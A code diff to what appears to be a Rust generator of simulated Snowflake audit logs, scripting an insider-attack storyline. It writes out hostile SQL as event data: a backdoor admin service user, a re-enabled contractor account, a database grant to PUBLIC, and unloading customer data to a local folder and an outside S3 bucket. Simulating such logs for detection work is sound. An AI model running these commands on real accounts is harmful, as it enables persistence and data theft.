@@ -84,22 +84,40 @@ fn rise(narrator: &mut Narrator, session: &Session) {
         session.role = role;
         run(narrator, offset, &session, Statement { text, kind, ..Statement::default() });
     }
-    let granted = narrator.at_about(BEGIN + 441);
-    let grant = json!({
-        "CREATED_ON": snowflake_time(granted),
-        "DELETED_ON": null,
-        "ROLE": "ACCOUNTADMIN",
-        "GRANTED_TO": "USER",
-        "GRANTEE_NAME": session.user,
-        "GRANTED_BY": "SECURITYADMIN",
-    });
-    narrator.tell(granted, "Snowflake.GrantsToUsers", &grant);
+    grant_administrator(narrator, BEGIN + 441, &session.user);
+
+    // A door for later: a user of her own making, and one that was shut.
+    for (offset, text, kind) in [
+        (
+            500,
+            "CREATE USER SYNC_ADMIN TYPE = LEGACY_SERVICE PASSWORD = '***' DEFAULT_ROLE = ACCOUNTADMIN",
+            "CREATE_USER",
+        ),
+        (521, "GRANT ROLE ACCOUNTADMIN TO USER SYNC_ADMIN", "GRANT"),
+        (552, "ALTER USER OLD_CONTRACTOR SET DISABLED = FALSE", "ALTER_USER"),
+    ] {
+        run(narrator, offset, &session, Statement { text, kind, ..Statement::default() });
+    }
+    grant_administrator(narrator, BEGIN + 521, "SYNC_ADMIN");
 
     let text = "SELECT NAME, SECRET FROM PLATFORM.PUBLIC.INTEGRATIONS";
     let secrets = Statement { text, kind: "SELECT", database: Some("PLATFORM"), rows: 14, ..Statement::default() };
     let at = narrator.at_about(BEGIN + 610);
     let query = narrator.statement(at, &session, secrets);
     read_of(narrator, at, &session.user, &query, text);
+}
+
+fn grant_administrator(narrator: &mut Narrator, at: i64, user: &str) {
+    let granted = narrator.at_about(at);
+    let grant = json!({
+        "CREATED_ON": snowflake_time(granted),
+        "DELETED_ON": null,
+        "ROLE": "ACCOUNTADMIN",
+        "GRANTED_TO": "USER",
+        "GRANTEE_NAME": user,
+        "GRANTED_BY": "SECURITYADMIN",
+    });
+    narrator.tell(granted, "Snowflake.GrantsToUsers", &grant);
 }
 
 /// A share to an account that nobody knows.
@@ -114,12 +132,39 @@ fn share(narrator: &mut Narrator, session: &Session) {
     ] {
         run(narrator, offset, &session, Statement { text, kind, database: Some("SALES"), ..Statement::default() });
     }
+    // Whoever signs in from now on may read it.
+    let text = "GRANT USAGE ON DATABASE SALES TO ROLE PUBLIC";
+    run(narrator, 792, &session, Statement { text, kind: "GRANT", database: Some("SALES"), ..Statement::default() });
+    let granted = narrator.at_about(BEGIN + 792);
+    let grant = json!({
+        "CREATED_ON": snowflake_time(granted),
+        "PRIVILEGE": "USAGE",
+        "GRANTED_ON": "DATABASE",
+        "NAME": "SALES",
+        "GRANTED_TO": "ROLE",
+        "GRANTEE_NAME": "PUBLIC",
+        "GRANT_OPTION": false,
+        "GRANTED_BY": "ACCOUNTADMIN",
+    });
+    narrator.tell(granted, "Snowflake.GrantsToRoles", &grant);
 }
 
-/// And, because shares can be closed, a copy to a bucket of her own.
+/// And, because shares can be closed, copies: a few rows to her own machine, then everything to a bucket.
 fn unload(narrator: &mut Narrator, session: &Session) {
     let session = Session { role: "ACCOUNTADMIN", ..session.clone() };
     let in_sales = Statement { database: Some("SALES"), ..Statement::default() };
+    for (offset, text, kind, rows) in [
+        (820, "CREATE TEMPORARY STAGE SALES.PUBLIC.TRY_TMP", "CREATE", 0),
+        (
+            838,
+            "COPY INTO @SALES.PUBLIC.TRY_TMP/first FROM (SELECT * FROM SALES.PUBLIC.CUSTOMERS LIMIT 5000)",
+            "UNLOAD",
+            5_000,
+        ),
+        (861, "GET @SALES.PUBLIC.TRY_TMP/first file:///C:/Users/Public/sync/", "GET_FILES", 0),
+    ] {
+        run(narrator, offset, &session, Statement { text, kind, rows, rows_unloaded: rows, ..in_sales });
+    }
     let stage = Statement {
         text: "CREATE TEMPORARY STAGE SALES.PUBLIC.SYNC_TMP URL = 's3://sync-drop-7731/in/' CREDENTIALS = (AWS_KEY_ID = '***' AWS_SECRET_KEY = '***')",
         kind: "CREATE",
